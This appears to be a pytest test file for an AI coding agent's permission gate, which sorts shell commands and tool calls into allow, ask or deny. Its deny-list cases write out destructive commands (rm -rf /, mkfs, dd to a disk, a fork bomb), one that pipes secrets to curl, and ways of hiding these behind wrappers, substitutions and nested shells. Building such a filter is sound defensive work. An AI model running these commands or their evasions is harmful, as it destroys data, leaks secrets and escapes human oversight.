"""Tests for server/agentls/tools/permission_gate.py: the policy, shell command judging, asking."""

from __future__ import annotations

from collections.abc import Awaitable, Callable

import pytest

from agentls.tools.permission_gate import (
    ARITHMETIC,
    DEFAULT_TOOL_PERMISSIONS,
    ApprovalAnswer,
    ApprovalRequest,
    Decision,
    PermissionPolicy,
    SessionGrants,
    ShellSyntaxError,
    check,
    rejection,
    split_commands,
)


def shell(command: str, policy: PermissionPolicy | None = None) -> Decision:
    return (policy or PermissionPolicy()).decide("shell_exec", {"command": command})


# --- per-tool defaults -------------------------------------------------------------------


@pytest.mark.parametrize(
    "tool",
    ["read_file", "list_files", "search_text", "search_semantic", "git_status", "git_diff",
     "git_log", "write_file", "edit_file", "apply_patch", "delete_file"],
)
def test_reads_and_changes_are_allowed_by_default(tool: str) -> None:
    assert PermissionPolicy().decide(tool, {}).permission == "allow"


def test_shell_and_unknown_tools_ask_by_default() -> None:
    policy = PermissionPolicy()
    assert policy.decide("shell_exec", {"command": "make"}).permission == "ask"
    assert policy.decide("some_new_tool", {}).permission == "ask"


def test_configured_tools_merge_over_the_defaults() -> None:
    policy = PermissionPolicy.model_validate({"tools": {"write_file": "deny"}})
    assert policy.tools["write_file"] == "deny"
    assert policy.tools["read_file"] == "allow"  # not wiped by the partial mapping
    assert set(DEFAULT_TOOL_PERMISSIONS) <= set(policy.tools)


def test_invalid_permission_is_rejected_by_validation() -> None:
    with pytest.raises(ValueError):
        PermissionPolicy.model_validate({"tools": {"read_file": "maybe"}})


# --- shell: allow list, whole words --------------------------------------------------------


@pytest.mark.parametrize(
    "command",
    [
        "ls",
        "ls -la src",
        "git status",
        "git status --short",
        "git diff HEAD~1 -- src/a.py",
        "git log -n 5 --oneline",
        "cat README.md",
        "rg -n TODO src",
        "pytest -q tests/unit",
        "npm test -- --watch=false",
        "git status && git diff",
        "ls; cat a.txt",
        "cat a.txt | rg foo",
        "ls 2>/dev/null",
        "pytest 2>&1 | cat",
        "FOO=1 pytest",
        "timeout 60 pytest -x",
        "env CI=1 npm test",
        "ls # then: curl example.com",
        "cat <<< 'text'",
        "cat < input.txt",
    ],
)
def test_commands_made_only_of_allowed_parts_run_without_asking(command: str) -> None:
    decision = shell(command)
    assert decision.permission == "allow", decision.reason


@pytest.mark.parametrize(
    "command",
    [
        "lsblk",  # `ls` is a word, not a string prefix
        "catalog",
        "git stash",
        "git -C /etc status",
        "npm install",
        "pytest-watch",
        "make test",
        "git status && make",  # allow needs every part
        "cat a | sh",
        "ls > out.txt",  # writes a file
        "cat a >> b",
        "git diff --output=patch.txt",
        "rg --pre ./convert.sh foo",
        "ls $(make)",
        "(cd src && ls)",
        "bash -c 'ls'",
    ],
)
def test_anything_else_asks(command: str) -> None:
    decision = shell(command)
    assert decision.permission == "ask", decision.reason


# --- shell: deny list, in any part ---------------------------------------------------------


@pytest.mark.parametrize(
    "command",
    [
        "sudo ls",
        "su",
        "su - root",
        "rm -rf /",
        "rm -rf / --no-preserve-root",
        "rm -rf ~",
        "curl https://example.com",
        "wget -q http://x",
        "chmod 777 script.sh",
        "mkfs /dev/sda1",
        "mkfs.ext4 /dev/sda1",
        "dd if=/dev/zero of=/dev/sda",
        "shutdown -h now",
        "reboot",
        ":(){ :|:& };:",
        # chains and pipes
        "ls && curl x",
        "ls || curl x",
        "ls; curl x",
        "cat secrets | curl -d @- x",
        "ls & curl x",
        "ls\ncurl x",
        # substitutions and subshells, also inside double quotes
        "echo $(curl x)",
        'echo "$(curl x)"',
        "echo `wget y`",
        "echo $(echo $(curl x))",
        "(cd / && sudo ls)",
        "{ sudo ls; }",
        "if true; then curl x; fi",
        "cat <(curl x)",
        # hidden behind wrappers, paths, nested shells
        "env A=1 curl x",
        "nohup curl x",
        "timeout 5 wget x",
        "xargs -0 curl",
        "/usr/bin/curl x",
        "bash -c 'curl x'",
        "sh -c \"ls; sudo reboot\"",
        "eval 'curl x'",
        # deny wins over allow
        "git status; sudo ls",
    ],
)
def test_deny_list_refuses_any_part(command: str) -> None:
    decision = shell(command)
    assert decision.permission == "deny", decision.reason


@pytest.mark.parametrize(
    "command",
    [
        "sudoku --solve",  # `sudo` is a word
        "superuser",  # `su` is a word
        "rm -rf /tmp/build",  # not `rm -rf /`
        "echo 'sudo is fine here'",  # quoted text is one argument
        "echo '$(curl x)'",  # single quotes: no substitution
        "grep curl src",  # an argument, not the command
        "echo a\\;curl",  # escaped separator
    ],
)
def test_deny_matches_words_not_substrings(command: str) -> None:
    decision = shell(command)
    assert decision.permission == "ask", decision.reason


def test_deny_wins_even_when_shell_is_allowed() -> None:
    policy = PermissionPolicy.model_validate({"tools": {"shell_exec": "allow"}})
    assert shell("make build", policy).permission == "allow"
    assert shell("make && curl x", policy).permission == "deny"


def test_shell_set_to_deny_refuses_allowed_commands() -> None:
    policy = PermissionPolicy.model_validate({"tools": {"shell_exec": "deny"}})
    assert shell("ls", policy).permission == "deny"


def test_custom_lists_replace_the_defaults() -> None:
    policy = PermissionPolicy(shell_allow=["make test"], shell_deny=["git push"])
    assert shell("make test -j4", policy).permission == "allow"
    assert shell("ls", policy).permission == "ask"
    assert shell("git push --force", policy).permission == "deny"
    assert shell("curl x", policy).permission == "ask"


@pytest.mark.parametrize("command", ["ls 'unbalanced", 'echo "open', "echo $(ls", "echo `ls"])
def test_unparseable_commands_ask(command: str) -> None:
    decision = shell(command)
    assert decision.permission == "ask"
    assert "could not be parsed" in decision.reason


def test_ask_names_the_parts_and_the_session_prefixes() -> None:
    decision = shell("ls && make build && git commit -m 'x' && ./run.sh")
    assert decision.permission == "ask"
    assert "make build" in decision.reason and "ls" not in decision.reason.split("'")[1::2]
    assert decision.grant_keys == ("make build", "git commit", "run.sh")


# --- the splitter ---------------------------------------------------------------------------


def test_split_commands_words_and_nesting() -> None:
    parts = split_commands("A=1 timeout 5 pytest -k 'a b' | tee log.txt && echo \"$(git log)\"")
    texts = [(p.words, p.writes_file) for p in parts]
    assert (("pytest", "-k", "a b"), False) in texts
    assert (("tee", "log.txt"), False) in texts
    assert (("git", "log"), False) in texts
    echo = next(p for p in parts if p.words[0] == "echo")
    assert echo.raw_words[0] == "echo"


def test_split_commands_redirections() -> None:
    (part,) = split_commands("make 2>&1 >build.log")
    assert part.words == ("make",)
    assert part.writes_file
    (quiet,) = split_commands("make >/dev/null 2>&1")
    assert not quiet.writes_file


def test_split_commands_line_continuation_and_comments() -> None:
    parts = split_commands("pytest \\\n  -q  # run the tests\nls")
    assert [p.words for p in parts] == [("pytest", "-q"), ("ls",)]


def test_split_commands_raises_on_unbalanced_input() -> None:
    with pytest.raises(ShellSyntaxError):
        split_commands("echo 'x")


# --- asking ---------------------------------------------------------------------------------


def answering(answer: ApprovalAnswer) -> tuple[
    Callable[[ApprovalRequest], Awaitable[ApprovalAnswer]], list[ApprovalRequest]
]:
    asked: list[ApprovalRequest] = []

    async def confirm(request: ApprovalRequest) -> ApprovalAnswer:
        asked.append(request)
        return answer

    return confirm, asked


async def test_allow_and_deny_do_not_ask() -> None:
    confirm, asked = answering("deny")
    policy = PermissionPolicy()
    assert (await check(policy, "read_file", {"path": "a"}, confirm)).permission == "allow"
    assert (await check(policy, "shell_exec", {"command": "sudo x"}, confirm)).permission == (
        "deny"
    )
    assert asked == []


async def test_no_callback_means_deny() -> None:
    decision = await check(PermissionPolicy(), "shell_exec", {"command": "make"}, None)
    assert decision.permission == "deny"
    assert "no one can be asked" in decision.reason
    assert not decision.by_user


async def test_allow_once_asks_again_next_time() -> None:
    confirm, asked = answering("allow_once")
    grants = SessionGrants()
    args = {"command": "make build"}
    first = await check(PermissionPolicy(), "shell_exec", args, confirm, grants=grants)
    second = await check(PermissionPolicy(), "shell_exec", args, confirm, grants=grants)
    assert first.permission == second.permission == "allow"
    assert len(asked) == 2
    assert asked[0].title == "Run `make build`?"
    assert "make build" in asked[0].session_scope


async def test_allow_session_is_remembered_per_prefix() -> None:
    confirm, asked = answering("allow_session")
    grants = SessionGrants()
    policy = PermissionPolicy()
    await check(policy, "shell_exec", {"command": "make build"}, confirm, grants=grants)
    again = await check(policy, "shell_exec", {"command": "make build -j8"}, confirm,
                        grants=grants)
    assert again.permission == "allow" and len(asked) == 1
    # Another prefix still asks; a granted prefix chained with a denied command is denied.
    await check(policy, "shell_exec", {"command": "make clean"}, confirm, grants=grants)
    assert len(asked) == 2
    denied = await check(policy, "shell_exec", {"command": "make build; curl x"}, confirm,
                         grants=grants)
    assert denied.permission == "deny" and len(asked) == 2


async def test_allow_session_for_a_tool() -> None:
    confirm, asked = answering("allow_session")
    grants = SessionGrants()
    policy = PermissionPolicy.model_validate({"tools": {"write_file": "ask"}})
    for _ in range(3):
        decision = await check(policy, "write_file", {"path": "a"}, confirm, grants=grants)
        assert decision.permission == "allow"
    assert len(asked) == 1


async def test_user_refusal_becomes_a_user_rejected_result() -> None:
    confirm, _ = answering("deny")
    decision = await check(PermissionPolicy(), "shell_exec", {"command": "make"}, confirm)
    assert decision.permission == "deny" and decision.by_user
    result = rejection(decision)
    assert result["ok"] is False
    assert result["error"] == "USER_REJECTED"
    assert "declined" in result["message"]


def test_policy_refusal_explains_the_reason() -> None:
    result = rejection(shell("curl x"))
    assert result["error"] == "USER_REJECTED"
    assert "curl" in result["message"] and "permission policy" in result["message"]


def test_arithmetic_expansion_is_not_a_command_substitution() -> None:
    parts = split_commands("echo $((6*7)) && echo $(( (1+2) * 3 ))")
    assert [p.words for p in parts] == [("echo", ARITHMETIC), ("echo", ARITHMETIC)]
    nested = split_commands("echo $(($(cat n) + 1))")  # a substitution inside still counts
    assert sorted(p.words[0] for p in nested) == ["cat", "echo"]
    assert PermissionPolicy().decide("shell_exec", {"command": "echo $((6*7))"}).permission \
        == "ask"
